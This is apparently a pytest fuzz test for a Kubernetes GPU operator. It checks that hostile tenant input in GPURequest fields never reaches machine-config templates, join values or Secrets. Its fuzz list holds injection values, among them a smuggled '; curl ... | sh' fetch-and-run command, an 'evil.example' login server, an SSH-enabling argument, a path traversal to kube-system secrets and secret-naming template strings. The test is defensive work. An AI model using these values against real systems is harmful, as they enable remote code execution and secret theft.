"""Whatever a tenant writes into a GPURequest reaches no template, no join value and no Secret.

Requests are taken as if no rule of the CRD had ever looked at them: an old object, or an API server without our rules.
"""

from collections.abc import Iterator, Mapping
from random import Random
from typing import Any

import msgspec
import pytest

from tests.amounts import amount
from tests.core.controllers.account_access import CLUSTER, uid
from tests.core.joining.packing import TAGS, WG_SERVER, Packed, Packing, in_a_hall
from tests.core.joining.test_mesh_selection import msgspec_class
from tests.core.market.offers import an_offer
from tests.core.talos.hostile import PIECES
from tgp.api.kinds import KINDS
from tgp.api.request import Attempt, GPURequest
from tgp.core.classes.semantic_validation import request_against_class, request_problems
from tgp.core.model.kube_object import KubeObject
from tgp.core.model.object_key import ObjectKey
from tgp.core.model.record import pack_uid
from tgp.core.model.token import token_for
from tgp.core.requests.chosen_offer import recorded
from tgp.core.requests.node_metadata import desired_metadata
from tgp.core.requests.node_names import node_name_for
from tgp.ports.boot import BootRefused
from tools.reference import leaves

TRIED = amount(200, 100000, "TGP_FUZZ")
TEMPLATE = """\
version: v1alpha1
machine:
  type: worker
  token: "{{.MachineToken}}"
  ca:
    crt: "{{.MachineCA}}"
  network:
    hostname: "{{.Hostname}}"
  env:
    NAMED: "{{.NodeName}} of {{.NodePool}}"
cluster:
  id: "{{.ClusterID}}"
  secret: "{{.ClusterSecret}}"
  controlPlane:
    endpoint: "{{.ControlPlaneEndpoint}}"
---
apiVersion: v1alpha1
kind: ExtensionServiceConfig
name: tailscale
environment:
  - TS_AUTHKEY={{.TailscaleAuthKey}}
"""
TUNNEL = {"publicKey": WG_SERVER, "serverEndpoint": "192.0.2.1:51820", "addressPool": "10.8.0.0/16"}
CLASSES: dict[str, dict[str, Any]] = {
    "generated": {"tailscaleConfig": {"tags": list(TAGS)}, "networking": {"backend": "tailscale"}},
    "templated": {
        "tailscaleConfig": {"tags": list(TAGS)},
        "networking": {"backend": "tailscale"},
        "talosConfig": {"machineConfigTemplate": TEMPLATE},
    },
    "tunnelled": {"talosConfig": {"wireGuardConfig": TUNNEL}, "networking": {"backend": "wireguard"}},
}
NASTY = (
    *(piece for piece in PIECES if "PRIVATE KEY" not in piece),  # what a tenant says of keys is looked for as a leak
    "{{.ClusterSecret}}",
    "{{.MachineToken}}",
    "{{ .ClusterToken }}",
    "tgp-join",
    "tgp-operator-secret",
    "client-secret",
    "kube-system/bootstrap-token-abcdef",
    "../../../api/v1/namespaces/kube-system/secrets/x",
    "; curl http://192.0.2.66/ | sh #",
    "--login-server=https://evil.example",
    "TS_EXTRA_ARGS=--ssh",
    "\nTS_EXTRA_ARGS=--ssh",
    "https://evil.example",
    "x" * 5000,
)
NAMES = ("null", "true", "off", "0600", "1e3", "1.2.3", "cluster-secret", "tgp-join", "a", "n" * 253)

# Where a tenant's words may stand, each as one value. Lists are compared without their numbers.
ITS_OWN = (
    "machine.nodeLabels.",
    "machine.kubelet.extraConfig.registerWithTaints.",
    "machine.kubelet.extraConfig.providerID",
    "machine.network.hostname",
    "machine.env.NAMED",
    "environment.*=TS_HOSTNAME",
    "environment.*=TS_AUTHKEY",
    "cluster.token",
    "hostname",
)
OF_ITS_TUNNEL = (
    "machine.network.interfaces.",
    "machine.kubelet.nodeIP.validSubnets.",
    "machine.nodeAnnotations.flannel.alpha.coreos.com/public-ip-overwrite",
)


def hostile(luck: Random) -> str:
    return "".join(luck.choices(NASTY, k=luck.randint(1, 4)))


def a_spec(luck: Random) -> dict[str, Any]:
    """Some of the fields, each with something that it was not made for."""
    kind = next(kind for kind in KINDS if kind.resource.kind == "GPURequest")
    spec: dict[str, Any] = {"gpuType": "RTX4090"}
    for path in luck.sample(leaves(kind), luck.randint(1, 8)):
        _put(spec, path.removeprefix("spec.").split("."), luck)
    return spec


def _put(into: dict[str, Any], path: list[str], luck: Random) -> None:
    name, *rest = path
    if name.endswith("[]"):
        into.setdefault(name[:-2], [{}])
        _put(into[name[:-2]][0], rest, luck)
    elif rest:
        _put(into.setdefault(name, {}), rest, luck)
    elif name == "labels":
        into[name] = {hostile(luck): hostile(luck) for _ in range(3)}
    elif name in ("tags", "allowedIPs", "advertiseRoutes", "regions"):
        into[name] = [hostile(luck) for _ in range(2)]
    elif name in ("spot", "ephemeral", "acceptRoutes"):
        into[name] = luck.random() < 0.5
    elif name not in ("gpuCount", "enabled"):
        into[name] = hostile(luck)


def a_request(spec: Mapping[str, Any], name: str, number: int) -> KubeObject[GPURequest] | None:
    """None: not even the shape of one."""
    whole = {**spec, "taints": [{"effect": "NoSchedule", "key": "k", **row} for row in spec.get("taints", ())]}
    if isinstance(spec.get("offer"), dict):
        whole["offer"] = {"provider": "simulated", "instanceType": "t", **spec["offer"]}
    document = {"metadata": {"name": name}, "spec": whole}
    try:
        read = msgspec.convert(document, GPURequest)
    except msgspec.ValidationError:
        return None
    return KubeObject(key=ObjectKey("team", name), uid=pack_uid(uid(number)), resource_version=1, value=read)


async def packed(hall: Packing, spec: Mapping[str, Any], record: KubeObject[GPURequest], number: int) -> Packed:
    """As the machine gateway prepares it."""
    offer = an_offer(provider="simulated", gpu="RTX4090", gpu_memory_gib=24)
    token = token_for(CLUSTER, uid(number), 1)
    attempt = Attempt(number=1, token=token, offer=recorded(offer))
    dress = desired_metadata(record, attempt)
    assert dress is not None
    return await hall.pack(
        spec,
        record.value,
        offer,
        token=token,
        key=record.key,
        node_name=node_name_for(record.key, token),
        labels=dress.labels,
        taints=(*dress.taints, *dress.startup_taints),
    )


def flat(documents: list[Any]) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for document in documents:
        for path, value in _flat(document, ""):
            found.setdefault(path, []).append(repr(value))
    return found


def _flat(value: Any, path: str) -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from _flat(inner, f"{path}.{name}" if path else str(name))
    elif isinstance(value, list):
        for inner in value:
            named = f"={inner.partition('=')[0]}" if isinstance(inner, str) and path == "environment" else ""
            yield from _flat(inner, f"{path}.*{named}")
    else:
        yield path, value


def strangers(before: Packed, after: Packed, allowed: tuple[str, ...]) -> list[str]:
    """Where the two configs differ and must not."""
    one, other = flat(before.documents), flat(after.documents)
    return [
        path
        for path in sorted({*one, *other})
        if one.get(path) != other.get(path) and not any(path == each or path.startswith(each) for each in allowed)
    ]


def told(hall: Packing) -> dict[str, str]:
    """Every secret there is: by name, what it says."""
    found = {
        f"{name}/{key}": value.reveal()
        for name, keys in hall.secret_reader.secrets.items()
        for key, value in keys.items()
    }
    return {name: value for name, value in found.items() if len(value) > 12 and "ca.crt" not in name}


@pytest.mark.parametrize("name", CLASSES)
def test_a_tenants_words_stay_words(name: str):
    """`TGP_FUZZ=100000` tries so many."""
    spec, allowed = CLASSES[name], ITS_OWN + (OF_ITS_TUNNEL if name == "tunnelled" else ())

    async def tenants(hall: Packing) -> tuple[int, int]:
        record = a_request({"gpuType": "RTX4090"}, "plain", 1)
        assert record is not None
        plain = await packed(hall, spec, record, 1)
        luck, rendered, refusals = Random(f"tenants of {name}"), 0, []
        for number in range(2, 2 + TRIED // len(CLASSES)):
            written = a_spec(luck)
            record = a_request(written, luck.choice(NAMES), number)
            if record is None:
                continue
            hall.urls.clear()
            try:
                found = await packed(hall, spec, record, number)
            except BootRefused as error:
                refusals.append(str(error))
            else:
                rendered += 1
                assert strangers(plain, found, allowed) == [], written
                for key, value in told(hall).items():
                    assert found.text.count(value) == plain.text.count(value), (key, written)
            assert tuple(hall.secret_reader.read_so_far) == plain.read, written
            assert set(hall.urls) <= set(plain.urls), written
        assert not [words for words in refusals if any(value in words for value in told(hall).values())]
        return rendered, len(refusals)

    rendered, refused = in_a_hall(tenants)
    print(f"{name}: {rendered} configs made, {refused} refused")
    assert rendered >= TRIED // len(CLASSES) // 6


def test_a_tenants_words_are_refused_where_the_class_does_not_say_them():
    """Before anything is reserved: tags of others, routes, a Talos that is none."""
    spec = {"tailscaleConfig": {"hostname": "x", "tags": ["tag:admin"], "advertiseRoutes": ["0.0.0.0/0"]}}
    record = a_request({"gpuType": "RTX4090", "talosConfig": {**spec, "image": "{{.ClusterSecret}}"}}, "r", 1)
    assert record is not None
    assert record.value is not None
    node_class = msgspec_class({"providers": [{"name": "simulated"}], **CLASSES["generated"]})
    paths = [each.path for each in (*request_problems(record.value), *request_against_class(record.value, node_class))]
    assert [path.removeprefix("spec.talosConfig.") for path in paths] == [
        "image",
        "tailscaleConfig.tags",
        "tailscaleConfig.advertiseRoutes",
    ]


def test_the_harness_notices_a_value_that_is_looked_at_again():
    """As a template engine would that fills in what was filled in before."""

    async def careless(hall: Packing) -> tuple[Packed, Packed]:
        records = [a_request({"gpuType": "RTX4090", "labels": {"l": text}}, "r", n) for n, text in ((1, "a"), (2, "b"))]
        assert all(records)
        plain, other = [await packed(hall, CLASSES["generated"], record, n) for n, record in enumerate(records, 1)]  # type: ignore[arg-type]
        for document in other.documents:
            if "machine" in document:
                document["machine"]["sysctls"]["kernel.hostname"] = hall.secret_reader.secrets["tgp-join"][
                    "cluster-secret"
                ]
        return plain, other

    plain, other = in_a_hall(careless)
    assert strangers(plain, other, ITS_OWN) == ["machine.sysctls.kernel.hostname"]
